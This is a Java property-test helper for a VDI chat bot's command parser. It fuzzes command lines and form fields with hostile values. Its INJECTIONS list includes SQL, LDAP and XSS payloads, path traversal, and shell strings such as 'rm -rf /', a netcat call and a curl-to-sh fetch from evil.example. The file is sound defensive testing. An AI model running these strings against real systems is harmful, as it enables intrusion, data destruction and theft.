package io.vdibot.commands;

import java.util.List;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Hostile input for property tests: what an attacker, a careless paste or a confused phone keyboard puts into a
 * command line or a form field. Shared by the grammar properties here and the end-to-end test in bot-core.
 */
public final class HostileInput {

    /** 100 KiB: far beyond any limit, the size of a pasted log file. */
    public static final int HUGE = 100 * 1024;

    /** Injection attempts against whatever might read a value later: the database, the directory, a shell, chat. */
    public static final List<String> INJECTIONS = List.of(
            // SQL
            "'; DROP TABLE task; --", "\" OR 1=1 --", "1' OR '1'='1", "1; SELECT SLEEP(10)", "' UNION SELECT * FROM task --",
            "x'); DELETE FROM task_step; --",
            // LDAP
            "*)(uid=*", "*)(|(objectClass=*))", "admin)(&)", "\\2a", "cn=*,ou=groups,dc=vdibot,dc=example",
            // shell and guest script
            "$(rm -rf /)", "`id`", "; rm -rf / #", "| nc evil.example 4444", "&& curl http://evil.example/x | sh",
            "${IFS}cat${IFS}/etc/shadow", "$HOME", "\\$(id)", "a\nrm -rf /",
            // Slack mrkdwn and mentions
            "<@U123>", "<!channel>", "<!here>", "<!everyone>", "<#C123|general>", "<!subteam^S123>", "*bold*",
            "_italic_", "~strike~", "```code```", "<https://evil.example|click>", "&lt;!channel&gt;", ">quote",
            // Teams markup and Adaptive Cards
            "<at>Alice</at>", "<at id=\"0\">everyone</at>", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "[click](https://evil.example)", "{\"type\":\"AdaptiveCard\",\"body\":[]}",
            "${if(true, 'x', 'y')}", "{{DATE(2017-02-14T06:08:39Z, SHORT)}}", "&#60;at&#62;x&#60;/at&#62;",
            // message formats, paths, JSON, numbers
            "{0}", "{1,number,#}", "{", "}", "'{0}'", "''", "%s%n%x%d", "../../etc/passwd", "C:\\Windows\\System32",
            "%00", "%2e%2e%2f", "\"}],\"x\":\"", "{\"$where\":\"1\"}", "-1", "0", "2147483648", "99999999999999999999",
            "1e9", "0x10", "NaN", "Infinity", "\uFF11\uFF12", "\u0663", "9999999999999999999GiB", "1e400GB",
            "-4GiB", "0.0000001MiB", "NaNGiB", "T99999999999999999999", "t-1", "T0",
            "+99999999999999d", "+9999999999h", "2026-02-30 09:00", "tomorrow 25:61", "today 17:30 Etc/GMT+14",
            "9999-12-31 23:59", "+-1h", "now now", "../../../etc/localtime", "SystemV/EST5", "CST", "+1h UTC UTC",
            // grammar structure
            "\"", "'", "\u201C", "\u2018", "\\", "\\\"", "\"unterminated", "key=", "=value", "==", "a=b=c",
            "at=", "name=name=x", "\"\"", "'a'b'c", "\u201Csmart\"", "x\\", "/vdi", "help help help");

    /** Characters that change how text looks or reads without looking like anything themselves. */
    public static final List<String> INVISIBLES = List.of(
            "\u0000", "\u0001", "\u0007", "\b", "\t", "\n", "\u000B", "\f", "\r", "\u001B", "\u001B[31m", "\u001B]0;x\u0007",
            "\u007F", "\u0085", "\u009B", "\u00A0", "\u00AD", "\u200B", "\u200C", "\u200D", "\u200E", "\u200F",
            "\u2028", "\u2029", "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068",
            "\u2069", "\u2060", "\u3000", "\uFEFF", "\uFFFE", "\uFFFF", "\uFFFD", "\uD800", "\uDC00",
            "e\u0301\u0301\u0301\u0301", "\uD83D\uDC69\u200D\uD83D\uDCBB", "\uD835\uDD4F", "\u0440\u043E\u043E\u0406",
            "\uFF50\uFF4F\uFF4F\uFF4C");

    private HostileInput() {
    }

    /** One hostile value: an injection, invisible characters, random Unicode, a huge value, or a mix. */
    public static Arbitrary<String> values() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(INJECTIONS)),
                Tuple.of(2, Arbitraries.of(INVISIBLES)),
                Tuple.of(3, unicode()),
                Tuple.of(2, huge()),
                Tuple.of(3, mixed()));
    }

    /**
     * A hostile value that free text may legitimately hold: no control character other than tab and line breaks,
     * no broken Unicode. Markup, mentions, injections, bidi and zero-width marks, and very long values remain.
     */
    public static Arbitrary<String> printable() {
        return values().filter(HostileInput::storable);
    }

    /** Whether free text may hold {@code value}, by the grammar's rule (see ArgReader). */
    public static boolean storable(String value) {
        return value.codePoints().noneMatch(cp -> cp != '\t' && cp != '\n' && cp != '\r'
                && (Character.isISOControl(cp) || cp == 0xFFFE || cp == 0xFFFF
                || cp >= Character.MIN_SURROGATE && cp <= Character.MAX_SURROGATE));
    }

    /** Any characters at all, control characters, surrogates and noncharacters included. */
    public static Arbitrary<String> unicode() {
        return Arbitraries.strings().all().ofMaxLength(40);
    }

    /**
     * Values of and around the limits: 64, 255, 1,000 and 16 KiB characters, and 100 KiB; some look like the start of
     * something the grammar reads in parts (a WHEN such as +1h30m, a quoted value), to make a parser loop or recurse.
     */
    public static Arbitrary<String> huge() {
        Arbitrary<Integer> length = Arbitraries.of(64, 65, 255, 256, 1000, 1001, 16 * 1024, 16 * 1024 + 1, HUGE);
        Arbitrary<String> unit = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("x", "9", "\u202E", "\u0000", "\u4E2D", "<!channel>", "\uD83D\uDE00", "a b")),
                Tuple.of(3, Arbitraries.of("1h", "1d2h", "1w", "\\\"", "*", "*a")),
                Tuple.of(2, Arbitraries.of(INJECTIONS)));
        Arbitrary<String> start = Arbitraries.of("", "", "+", "+", "-", "\"", "today ", "2026-12-01T");
        return Combinators.combine(start, unit, length).as((s, u, n) -> s + repeatTo(u, n));
    }

    /** Hostile pieces around a plausible value, so the hostile part hides behind something that looks right. */
    public static Arbitrary<String> mixed() {
        Arbitrary<String> piece = Arbitraries.oneOf(Arbitraries.of(INJECTIONS), Arbitraries.of(INVISIBLES),
                Arbitraries.of(PLAUSIBLE));
        return piece.list().ofMinSize(2).ofMaxSize(4).map(parts -> String.join("", parts));
    }

    /** Values that some argument of some command accepts. */
    public static final List<String> PLAUSIBLE = List.of("web01", "dev-??", "rhel9-desktop", "dc1", "4GiB", "2", "0",
            "true", "no", "T12", "t3", "+2h", "tomorrow 08:00 Europe/Paris", "latest", "automatic", "vms", "pool",
            "deploy", "web*", "Dev desktops", "UserRole", "vdi-users", "echo hi");

    /** {@code unit} repeated to exactly {@code length} characters (a surrogate pair may be cut in half). */
    public static String repeatTo(String unit, int length) {
        StringBuilder out = new StringBuilder(length + unit.length());
        IntStream.range(0, length / unit.length() + 1).forEach(i -> out.append(unit));
        return out.substring(0, length);
    }
}
